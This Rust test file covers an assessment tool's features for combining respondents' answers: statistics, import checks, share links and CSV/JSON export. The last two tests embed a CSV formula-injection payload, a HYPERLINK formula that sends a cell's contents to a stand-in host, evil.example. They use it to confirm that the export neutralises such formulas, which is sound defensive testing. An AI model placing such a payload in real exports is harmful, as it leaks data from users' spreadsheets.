use std::collections::BTreeMap;

use super::{NOW, answered, quick_check, small_framework};
use crate::domain::assessment::{Assessment, FrameworkRef, Rating, Rating::*};
use crate::domain::combine::{
    Group, Member, Offered, combine, combined_csv, combined_json, link_data, prepare_import, with_label,
};
use crate::domain::exchange;
use crate::domain::framework::Framework;
use crate::domain::share;

fn member(name: &str, ratings: &[(&str, Rating)]) -> Member {
    Member {
        assessment: name.into(),
        source: format!("{name}.json"),
        label: None,
        organisation: Default::default(),
        framework: FrameworkRef { id: "small".into(), version: "1".into() },
        updated: NOW,
        ratings: ratings.iter().map(|(id, r)| (id.to_string(), *r)).collect(),
    }
}

fn no_other_versions(_: &FrameworkRef) -> Option<Vec<String>> {
    None
}

#[test]
fn an_odd_count_has_the_middle_answer_as_its_median() {
    let framework = small_framework();
    let members =
        [member("x", &[("a1", Level(1))]), member("y", &[("a1", Level(3))]), member("z", &[("a1", Level(2))])];
    let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions);
    let a1 = &combined.areas[0].statements[0].stats;
    assert_eq!((a1.count, a1.median, a1.min, a1.max, a1.range()), (3, Some(2.0), Some(1.0), Some(3.0), Some(2.0)));
    assert_eq!(combined.areas[0].statements[0].levels, [1, 1, 1]);
}

#[test]
fn an_even_count_has_the_mean_of_the_middle_two_as_its_median() {
    let framework = small_framework();
    let members: Vec<Member> =
        [1, 2, 2, 3].iter().enumerate().map(|(i, l)| member(&format!("m{i}"), &[("b1", Level(*l))])).collect();
    let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions);
    assert_eq!(combined.areas[1].statements[0].stats.median, Some(2.0));
    let two: Vec<Member> =
        [1, 2].iter().enumerate().map(|(i, l)| member(&format!("n{i}"), &[("b1", Level(*l))])).collect();
    let combined = combine(&framework, &two.iter().collect::<Vec<_>>(), &no_other_versions);
    assert_eq!(combined.areas[1].statements[0].stats.median, Some(1.5));
}

#[test]
fn dont_know_and_not_applicable_are_counted_but_left_out_of_the_statistics() {
    let framework = small_framework();
    let members = [
        member("x", &[("a1", Level(1)), ("a2", DontKnow)]),
        member("y", &[("a1", DontKnow), ("a2", NotApplicable)]),
        member("z", &[("a1", NotApplicable)]),
        member("w", &[("a1", Level(3))]),
    ];
    let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions);
    let a1 = &combined.areas[0].statements[0].stats;
    assert_eq!((a1.count, a1.median, a1.dont_know, a1.not_applicable, a1.not_answered), (2, Some(2.0), 1, 1, 0));
    let a2 = &combined.areas[0].statements[1].stats;
    assert_eq!((a2.count, a2.median, a2.dont_know, a2.not_applicable, a2.not_answered), (0, None, 1, 1, 2));
    assert_eq!(a2.range(), None);
    // Area A: x scores 1, w scores 3, y and z have no level in it.
    let area = &combined.areas[0].stats;
    assert_eq!((area.count, area.median, area.not_answered), (2, Some(2.0), 2));
}

#[test]
fn area_and_overall_statistics_are_over_each_respondents_scores() {
    let framework = small_framework();
    let members = [
        member("x", &[("a1", Level(1)), ("a2", Level(2)), ("b1", Level(3))]),
        member("y", &[("a1", Level(3)), ("a2", Level(3)), ("b1", Level(1))]),
    ];
    let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions);
    let area = &combined.areas[0].stats;
    assert_eq!((area.min, area.max, area.median), (Some(1.5), Some(3.0), Some(2.25)));
    // Weights 1 and 3: x = (1.5 + 9) / 4, y = (3 + 3) / 4.
    assert_eq!((combined.overall.min, combined.overall.max), (Some(1.5), Some(2.625)));
}

#[test]
fn disagreements_are_a_range_of_two_levels_or_more_widest_and_most_split_first() {
    let framework = quick_check();
    let mut members: Vec<Member> = (0..4).map(|i| member(&format!("m{i}"), &[])).collect();
    // q1: 1,1,5,5 (range 4, evenly split); q2: 1,5,5,5 (range 4, one apart); q3: 2,2,3,3 (range 1);
    // q4: 1,3,3,3 (range 2); q5: all "Don't know" but one.
    let table: [(&str, [Rating; 4]); 5] = [
        ("q1", [Level(1), Level(1), Level(5), Level(5)]),
        ("q2", [Level(1), Level(5), Level(5), Level(5)]),
        ("q3", [Level(2), Level(2), Level(3), Level(3)]),
        ("q4", [Level(1), Level(3), Level(3), Level(3)]),
        ("q5", [DontKnow, DontKnow, NotApplicable, Level(5)]),
    ];
    for (statement, column) in table {
        for (member, rating) in members.iter_mut().zip(column) {
            member.ratings.insert(statement.into(), rating);
        }
    }
    for member in &mut members {
        member.framework = FrameworkRef { id: framework.id.clone(), version: framework.version.clone() };
    }
    let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions);
    let order: Vec<&str> = combined.disagreements().iter().map(|s| s.statement.id.as_str()).collect();
    assert_eq!(order, ["q1", "q2", "q4"]);
}

#[test]
fn other_framework_versions_count_on_the_statements_they_share_and_are_named() {
    let framework = small_framework();
    let mut old = member("old", &[("a1", Level(1)), ("gone", Level(2))]);
    old.framework.version = "0.9".into();
    let current = member("new", &[("a1", Level(3)), ("b1", Level(2))]);
    let members = [old, current];
    let versions = |reference: &FrameworkRef| -> Option<Vec<String>> {
        (reference.version == "0.9").then(|| vec!["a1".to_string(), "gone".to_string()])
    };
    let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &versions);
    assert_eq!(combined.areas[0].statements[0].stats.count, 2, "a1 is in both versions");
    assert_eq!(combined.areas[1].statements[0].stats.not_answered, 1, "b1 is not in version 0.9");
    assert_eq!(combined.versions.len(), 1);
    let difference = &combined.versions[0];
    assert_eq!(difference.version, "0.9");
    assert_eq!(difference.sources, ["old.json"]);
    assert_eq!(difference.missing, ["a2", "b1"]);
    assert_eq!(difference.ignored_answers, 1, "the answer to “gone” is left out");
}

#[test]
fn labels_choose_whom_to_combine() {
    let mut members = vec![member("x", &[]), member("y", &[]), member("z", &[])];
    members[0].label = Some("Finance".into());
    members[2].label = Some("Finance".into());
    assert_eq!(with_label(&members, Some("Finance")).len(), 2);
    assert_eq!(with_label(&members, None).len(), 3);
    let group = Group { members, ..Group::new("g".into(), "G".into(), NOW) };
    assert_eq!(group.labels(), ["Finance"]);
}

fn file(name: &str, assessment: &Assessment) -> Offered {
    Offered { source: name.into(), text: exchange::to_json(assessment), is_link: false }
}

fn with_id(mut assessment: Assessment, id: &str) -> Assessment {
    assessment.id = id.into();
    assessment
}

#[test]
fn an_import_names_each_bad_file_and_keeps_the_good_ones_apart_until_confirmed() {
    let catalogue = super::every_framework();
    let framework = quick_check();
    let good = with_id(answered(&framework, &[Level(2); 12]), "one");
    let mut other_framework = answered(catalogue.latest("digital-by-default").unwrap(), &[Level(1)]);
    other_framework.id = "two".into();
    let offered = vec![
        file("one.json", &good),
        Offered { source: "broken.json".into(), text: "{\"format\": \"almanac.assess".into(), is_link: false },
        file("again.json", &good),
        file("empty.json", &with_id(answered(&framework, &[]), "three")),
        file("other.json", &other_framework),
        Offered { source: "notes.txt".into(), text: "hello".into(), is_link: false },
    ];
    let group = Group::new("g".into(), "Workshop".into(), NOW);
    let preview = prepare_import(offered, &group, &catalogue);
    assert_eq!(preview.new.len(), 1);
    assert_eq!(preview.new[0].source, "one.json");
    let refused: BTreeMap<&str, String> =
        preview.refused.iter().map(|r| (r.source.as_str(), r.problems.to_string())).collect();
    assert!(refused["broken.json"].contains("ends too early"), "{refused:?}");
    assert!(refused["again.json"].contains("same assessment as one.json"));
    assert!(refused["empty.json"].contains("no answers"));
    assert!(refused["other.json"].contains("but this group combines “Quick check"), "{refused:?}");
    assert!(refused["notes.txt"].contains("not valid JSON"));
    assert!(group.members.is_empty(), "nothing changes until the person confirms");
}

#[test]
fn an_import_of_a_respondent_already_in_the_group_asks_to_replace() {
    let catalogue = super::every_framework();
    let framework = quick_check();
    let first = with_id(answered(&framework, &[Level(2); 12]), "one");
    let mut group = Group::new("g".into(), "Workshop".into(), NOW);
    group.add(vec![Member::from_assessment(&first, "one.json".into())]);
    let changed = with_id(answered(&framework, &[Level(4); 12]), "one");
    let preview = prepare_import(vec![file("one-again.json", &changed)], &group, &catalogue);
    assert_eq!((preview.new.len(), preview.replacing.len()), (0, 1));
    group.add(preview.replacing);
    assert_eq!(group.members.len(), 1);
    assert_eq!(group.members[0].ratings["q1"], Level(4));
}

#[test]
fn share_links_import_like_files_and_the_same_link_twice_is_noticed() {
    let catalogue = super::every_framework();
    let assessment = answered(&quick_check(), &[Level(3); 12]);
    let link = format!("https://example.org/almanac/#/shared/{}", share::encode(&assessment, false));
    assert!(link_data(&link).is_some());
    assert_eq!(link_data("https://example.org/almanac/#/saved"), None);
    let offered = |source: &str| Offered { source: source.into(), text: link.clone(), is_link: true };
    let bad = Offered { source: "Link 3".into(), text: "https://example.org/#/shared/AAAA".into(), is_link: true };
    let preview = prepare_import(
        vec![offered("Link 1"), offered("Link 2"), bad],
        &Group::new("g".into(), "G".into(), NOW),
        &catalogue,
    );
    assert_eq!(preview.new.len(), 1);
    assert_eq!(preview.new[0].ratings.len(), 12);
    assert_eq!(preview.refused.len(), 2);
    assert!(preview.refused[1].problems.to_string().contains("this link has been changed or cut short"));
}

#[test]
fn a_group_survives_a_round_trip_through_storage() {
    let mut group = Group::new("g1".into(), "County and districts".into(), NOW);
    let mut respondent = member("x", &[("a1", Level(2)), ("a2", NotApplicable)]);
    respondent.label = Some("ICT".into());
    group.add(vec![respondent]);
    assert_eq!(Group::from_json(&group.to_json()), Ok(group));
    assert!(Group::from_json("{\"format\": \"almanac.assessment\"}").is_err());
}

#[test]
fn the_combined_view_exports_as_csv_and_json() {
    let framework = small_framework();
    let members = [member("x", &[("a1", Level(1)), ("a2", DontKnow)]), member("y", &[("a1", Level(3))])];
    let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions);
    let csv = combined_csv(&combined);
    assert!(csv.starts_with('\u{feff}'));
    let lines: Vec<&str> = csv.lines().collect();
    assert!(lines[0].contains("Respondents,Median,Lowest,Highest,Range,Level 1 (One)"), "{}", lines[0]);
    assert_eq!(lines[2], "Statement,Area A,a1,A one,2,2,1,3,2,1,0,1,0,0,0");
    assert_eq!(lines[3], "Statement,Area A,a2,A two,0,,,,,0,0,0,1,0,1");
    let json: serde_json::Value = serde_json::from_str(&combined_json(&combined, "Workshop", Some("ICT"))).unwrap();
    assert_eq!(json["format"], "almanac.combined");
    assert_eq!(json["respondents"], 2);
    assert_eq!(json["label"], "ICT");
    assert_eq!(json["disagreements"], serde_json::json!(["a1"]));
    assert_eq!(json["areas"][0]["statements"][0]["levels"]["3"], 1);
}

#[test]
fn a_thousand_respondents_combine() {
    let framework: Framework = super::every_framework().latest("digitalisation-outcomes").unwrap().clone();
    let members: Vec<Member> = (0..1000)
        .map(|i| {
            let ratings: Vec<Rating> =
                (0..framework.statement_count()).map(|s| Level(((i + s) % 5 + 1) as u8)).collect();
            Member::from_assessment(&with_id(answered(&framework, &ratings), &format!("m{i}")), format!("{i}.json"))
        })
        .collect();
    let combined = combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions);
    assert_eq!(combined.respondents, 1000);
    assert!(combined.statements().all(|s| s.stats.count == 1000 && s.stats.range() == Some(4.0)));
}

#[test]
fn the_combined_csv_header_is_defused_like_every_other_cell() {
    let mut framework = small_framework();
    let hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Don't know\")";
    framework.scale.dont_know = hostile.into();
    framework.scale.not_applicable = "@SUM(1+1)".into();
    framework.scale.levels[0].name = "+1".into();
    let members = [member("x", &[("a1", Level(1))])];
    let csv = combined_csv(&combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions));
    let header = csv.trim_start_matches('\u{feff}').lines().next().unwrap();
    assert!(
        header.contains(r#","'=HYPERLINK(""http://evil.example/?leak=""&B2,""Don't know"")",'@SUM(1+1),"#),
        "{header}"
    );
    assert!(header.contains(",Level 1 (+1),"), "a label inside the cell is not at its start");
    let cells = csv::ReaderBuilder::new().has_headers(false).from_reader(header.as_bytes()).records().next();
    let cells: Vec<String> = cells.unwrap().unwrap().iter().map(String::from).collect();
    assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{cells:?}");
}

/// LibreOffice Calc, as a person would open the export: no cell of it may become a formula.
#[cfg(not(target_arch = "wasm32"))]
#[test]
fn libreoffice_opens_a_hostile_combined_csv_with_no_formula() {
    let mut framework = small_framework();
    framework.scale.dont_know = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Don't know\")".into();
    let members = [member("x", &[("a1", Level(1))])];
    let csv = combined_csv(&combine(&framework, &members.iter().collect::<Vec<_>>(), &no_other_versions));

    let sheet = super::converted_by_libreoffice("combined.csv", csv.as_bytes(), "fods");
    assert!(sheet.contains("HYPERLINK"), "the label is in the sheet, as text");
    assert!(!sheet.contains("table:formula"), "no cell is a formula");
}
